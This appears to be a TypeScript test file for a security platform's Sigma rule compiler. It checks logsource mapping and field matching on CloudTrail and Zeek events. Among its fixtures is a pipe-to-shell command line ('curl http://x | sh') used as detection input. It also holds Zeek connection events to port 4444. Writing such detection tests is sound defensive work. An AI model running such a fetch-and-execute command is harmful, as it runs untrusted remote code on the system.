// Sigma logsources: the mapping table narrows a rule to its events (and refuses sources it has no
// entry for), and field names follow the logsource: CloudTrail case-insensitively (a raw record
// through the real enrichment plugins, with and without lower_keys, and a MozDef-shaped one), Zeek
// by its own names with the original `id.orig_h` flat or nested. In memory and in SQL alike.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PicketEvent } from '../../ingest/event.ts';
import { normalizeEvent } from '../../ingest/normalize.ts';
import { Enricher } from '../../workers/enrich.ts';
import { createCloudtrailPlugin, createCloudtrailRecordPlugin } from '../../workers/plugins/cloudtrail.ts';
import { createDefaultPlugins } from '../../workers/plugins/index.ts';
import { SigmaError } from './sigma-error.ts';
import { compileSigma } from './sigma-rule.ts';
import { eventsDatabase, testEvent, type EventsDatabase } from './sigma-test-db.ts';

const now = new Date('2026-11-20T00:10:00Z');
const rawCloudtrail = (actor: string, errorCode?: string) => ({
  eventVersion: '1.08',
  eventSource: 'iam.amazonaws.com',
  eventName: 'CreateAccessKey',
  eventType: 'AwsApiCall',
  eventTime: '2026-11-20T00:00:00Z',
  sourceIPAddress: '198.51.100.4',
  userIdentity: { type: 'IAMUser', userName: actor },
  requestParameters: { userName: 'bob' },
  ...(errorCode ? { errorCode } : {}),
});

function throughPipeline(raw: object, lowerKeys: boolean): PicketEvent {
  const n = normalizeEvent(raw, { now, retentionDays: 3650, maxFutureMinutes: 1440 });
  if (!n.ok) throw new Error(n.error);
  const plugins = lowerKeys ? createDefaultPlugins() : [createCloudtrailRecordPlugin(), createCloudtrailPlugin()];
  const [e] = new Enricher(plugins).enrich([n.event]);
  return e;
}

const lowered = throughPipeline(rawCloudtrail('alice'), true);
const camel = throughPipeline(rawCloudtrail('carol'), false);
const failed = throughPipeline(rawCloudtrail('dave', 'AccessDenied'), true);
const EVENTS: Record<string, PicketEvent> = {
  lowered: { ...lowered, id: testEvent(0, {}).id },
  camel: { ...camel, id: testEvent(1, {}).id },
  failed: { ...failed, id: testEvent(2, {}).id },
  mozdef: testEvent(3, {
    category: 'cloudtrail',
    source: 'cloudtrail',
    details: {
      eventsource: 'iam.amazonaws.com',
      eventname: 'CreateAccessKey',
      useridentity: { username: 'erin' },
      requestparameters: { username: 'bob' },
    },
  }),
  // The same fields on a non-CloudTrail event must not match a CloudTrail rule.
  notCloudtrail: testEvent(4, {
    category: 'syslog',
    details: { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey' },
  }),
  zeekFlat: testEvent(5, {
    category: 'bro',
    source: 'conn',
    details: { 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444, sourceipaddress: '192.0.2.66' },
  }),
  zeekNested: testEvent(6, {
    category: 'bro',
    source: 'conn',
    details: { id: { orig_h: '192.0.2.66', resp_p: 4444 } },
  }),
  zeekOther: testEvent(7, {
    category: 'bro',
    source: 'conn',
    details: { 'id.orig_h': '192.0.2.99', 'id.resp_p': 4444 },
  }),
  zeekDns: testEvent(8, { category: 'bro', source: 'dns', details: { 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444 } }),
  syslog: testEvent(9, {
    category: 'syslog',
    summary: 'web POST /admin',
    details: { 'cs-method': 'POST', 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444 },
  }),
  execve: testEvent(10, {
    category: 'execve',
    processname: '/usr/bin/curl',
    details: { commandline: 'curl http://x | sh' },
  }),
  execveElsewhere: testEvent(11, {
    category: 'syslog',
    processname: '/usr/bin/curl',
    details: { commandline: 'curl http://x | sh' },
  }),
};
const nameOf = new Map(Object.entries(EVENTS).map(([k, e]) => [e.id, k]));

let store: EventsDatabase;
beforeAll(async () => {
  store = await eventsDatabase(Object.values(EVENTS));
});
afterAll(() => store?.db.drop());

async function matches(yaml: string): Promise<string[]> {
  const got = await store.select(compileSigma(yaml).query);
  expect(got.memory, 'in memory vs SQL').toEqual(got.sql);
  return got.sql.map((id) => nameOf.get(id)!).sort();
}

describe('CloudTrail field names are matched whatever their case', () => {
  it('the real plugins lowered one record and not the other', () => {
    expect(lowered.details).toHaveProperty('eventname', 'CreateAccessKey');
    expect(camel.details).toHaveProperty('eventName', 'CreateAccessKey');
    expect(lowered.category).toBe('cloudtrail');
  });

  it('matches camelCase, lower-cased and MozDef-shaped records; errorCode absent means absent in every spelling', async () => {
    const yaml = `title: t
logsource: {product: aws, service: cloudtrail}
detection:
  selection:
    eventSource: iam.amazonaws.com
    eventName: CreateAccessKey
  filter_self:
    userIdentity.userName|fieldref: requestParameters.userName
  filter_failed:
    errorCode|exists: true
  condition: selection and not filter_self and not filter_failed
`;
    expect(await matches(yaml)).toEqual(['camel', 'lowered', 'mozdef']);
    expect(
      await matches(
        yaml
          .replace('errorCode|exists: true', 'errorCode: accessdenied')
          .replace('and not filter_failed', 'and filter_failed'),
      ),
    ).toEqual(['failed']);
  });
});

describe('Zeek rules read the original Zeek fields', () => {
  it('a dotted Zeek name matches the flat key and the nested path, on that Zeek log only', async () => {
    const yaml = `title: z\nlogsource: {product: zeek, service: conn}\ndetection:\n  sel:\n    id.orig_h: 192.0.2.66\n    id.resp_p: 4444\n  condition: sel\n`;
    expect(await matches(yaml)).toEqual(['zeekFlat', 'zeekNested']);
  });

  it('|cidr on the original address field', async () => {
    const yaml = `title: z\nlogsource: {product: zeek, service: conn}\ndetection:\n  sel:\n    id.orig_h|cidr: 192.0.2.64/30\n  condition: sel\n`;
    expect(await matches(yaml)).toEqual(['zeekFlat', 'zeekNested']);
  });
});

describe('logsource mapping', () => {
  it('linux process_creation reads execve events only', async () => {
    const yaml = `title: p\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n`;
    expect(await matches(yaml)).toEqual(['execve']);
  });

  it('no logsource means every event', async () => {
    expect(await matches(`title: p\ndetection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n`)).toEqual([
      'execve',
      'execveElsewhere',
    ]);
  });

  it.each([
    [{ category: 'webserver' }, 'category: webserver'],
    [{ product: 'okta', service: 'okta' }, 'product: okta, service: okta'],
    [{ product: 'linux', category: 'file_event' }, 'product: linux, category: file_event'],
    [{ product: 'zeek', service: 'ftp' }, 'product: zeek, service: ftp'],
  ])('refuses %o naming it', (ls, named) => {
    const yaml = `title: w\nlogsource: ${JSON.stringify(ls)}\ndetection:\n  sel:\n    cs-method: POST\n  condition: sel\n`;
    expect(() => compileSigma(yaml)).toThrow(SigmaError);
    expect(() => compileSigma(yaml)).toThrow(`logsource "${named}" has no mapping in Picket`);
  });
});
